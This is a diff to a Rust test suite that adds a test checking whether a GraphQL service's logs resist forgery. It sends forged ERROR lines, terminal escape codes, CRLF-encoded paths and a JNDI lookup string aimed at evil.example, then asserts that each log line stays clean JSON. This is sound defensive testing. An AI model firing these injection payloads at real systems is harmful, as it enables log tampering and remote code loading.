@@ -240,6 +240,32 @@ fn scripts_are_stored_and_shown_as_text() {
 }
 
 #[test]
+fn nobody_writes_lines_of_the_log() {
+    let fort = Fort::with(&[("log", "trace")]);
+    let forged = "2099-01-01T00:00:00Z ERROR forged";
+    let asked = 30;
+    for place in 0..asked {
+        let text = format!("\u{1b}[2J\r\n{forged}\n\u{2028}${{jndi:ldap://evil.example/{place}}}");
+        fort.ask_with(SEARCH, &json!({ "t": text }));
+        fort.ask(&format!("{{ organization(by: {{name: \"\"\"{text}\"\"\"}}) {{ id }} }}"));
+        fort.post(format!("{{\"query\": \"{{__typename}}\", \"operationName\": \"{text}\"}}").as_bytes());
+        fort.send("GET", "/nowhere%0d%0a2099-01-01T00:00:00Z%20ERROR%20forged%1b", "", b"");
+        fort.send(
+            "POST",
+            "/graphql",
+            &format!("{JSON}Authorization: Bearer {forged}\r\nUser-Agent: \u{9}{forged}\r\n"),
+            b"{}",
+        );
+    }
+    let log = fort.log();
+    println!("{} lines for {} requests", log.lines().count(), asked * 5);
+    assert!(log.lines().count() > 1, "nothing was logged at all");
+    let is_object = |line: &str| serde_json::from_str::<Value>(line).is_ok_and(|line| line.is_object());
+    let broken: Vec<&str> = log.lines().filter(|line| !is_object(line) || line.contains('\u{1b}')).collect();
+    assert!(broken.is_empty(), "{} lines are no lines of the log: {:?}", broken.len(), broken.first());
+}
+
+#[test]
 fn what_may_not_be_read_cannot_be_found_out_by_asking() {
     let fort = Fort::new();
     // dem-fuqi is for the bureau alone: neither its words nor its name nor its number find anything.
